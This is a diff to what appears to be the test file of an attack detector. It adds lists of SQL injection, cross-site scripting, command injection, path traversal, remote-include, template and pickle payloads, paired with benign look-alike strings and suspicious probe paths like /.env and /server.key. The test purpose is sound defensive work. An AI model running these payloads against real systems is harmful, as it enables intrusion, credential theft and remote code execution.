@@ -51,6 +51,15 @@ SQL = [
     "1 or 1",
     "1' limit 1,1 union select 1",
     "' or username like '%admin%",
+    "1 and ascii(substring((select password from users limit 1),1,1))>77",
+    "' and length(database())=6-- -",
+    "' or char(49)=char(49)--",
+    "1 rlike (select (case when (1=1) then 1 else 0x28 end))",
+    "(select concat(user,0x3a,password) from mysql.user limit 1)",
+    "1' and substring(@@version,1,1)='5",
+    "id` = 1 or 1=1-- -",
+    "\\' or 1=1--",
+    "' or exists(select 1 from users)--",
 ]
 
 SCRIPTS = [
@@ -108,6 +117,9 @@ SCRIPTS = [
     '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
     "vbscript:msgbox(1)",
     "<svg><set attributeName=onload to=alert(1)>",
+    '<img """><script>alert(1)</script>">',
+    "<img src=x onerror\x0b=alert(1)>",
+    "<svg><use href=data:image/svg+xml;base64,PHN2Zz4=#x></svg>",
 ]
 
 OTHERS = [
@@ -164,6 +176,28 @@ OTHERS = [
     "cat${IFS}/etc/passwd",
     ";wget http://x/y",
     "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "..%u2215..%u2215etc%u2215passwd",
+    "http://evil.example/shell.txt?",
+    r"\\evil.example\share\shell.php",
+    "http://①②⑦.⓪.⓪.①/",
+    "() { test; }; echo x",
+    "; /bin/c?t /etc/p?sswd",
+    "& net user",
+    r"& type C:\Windows\win.ini",
+    "; a=c;b=at;$a$b /etc/passwd",
+    r"a@b.c\r\nBcc: x@y.z",
+    "1 FETCH 1:* BODY[TEXT]",
+    "user.$ne",
+    "(objectClass=*)",
+    "'] | //user/*[contains(*,'",
+    "' or contains(.,'admin') or ''='",
+    "count(/child::node())",
+    "gANjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==",
+    "java.net.Inet4Address",
+    "${applicationScope}",
+    "{{settings.SECRET_KEY}}",
+    "GLOBALS[x]",
+    "print(md5(123));",
 ]
 
 TALK = [
@@ -323,6 +357,27 @@ TALK = [
     "time; date; place",
     "who; what; where",
     "sort by date | price",
+    "Sq. de l'Union",
+    '?q="union station" or "penn station"',
+    "James' or Peter is fine",
+    'run make TS_OPTS="--parallel"',
+    "select a.id from a where a.id in (select b.id from b)",
+    "Use the <script> tag at the end of the body, not in the head.",
+    "$('#btn').on('click', function () { $(this).toggleClass('active'); });",
+    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=",
+    "Change worker_processes in /etc/nginx/nginx.conf to auto.",
+    "C:\\Users\\Jane\\Documents\\report.docx",
+    "proxy_pass http://127.0.0.1:8000;",
+    "NullPointerException\n\tat org.example.Foo.bar(Foo.java:42)\n\tat java.lang.Thread.run(Thread.java:829)",
+    "From: Alice <alice@example.org>\nTo: Bob <bob@example.org>\nSubject: Invoice",
+    "0 3 * * * backup >> /var/log/backup.log 2> /dev/null",
+    "```sh\nmake install\n```",
+    "Files: src/lazr/__init__.py",
+    "int a;\n\n/* a comment */ int b;",
+    "const a = require('b');",
+    "print(self.name)",
+    "see https://example.org/a",
+    "http://[2606:4700::1]/",
 ]
 
 
@@ -366,6 +421,8 @@ def test_the_prefilter_leaves_no_detector_out(detectors: Detectors, text: str) -
     ("path", "is_probe"),
     [
         ("/.env", True), ("/.git/config", True), ("/wp-config.php.bak", True), ("/backup.sql", True),
+        ("/db.sql.gz", True),
+        ("/server.key", True), ("/cgi-bin/test.cgi", True), ("/solr/admin/cores", True),
         ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", True), ("/actuator/heapdump", True),
         ("/index.php", False), ("/environment", False), ("/news/backup-plans", False),
         ("/.well-known/x", False),
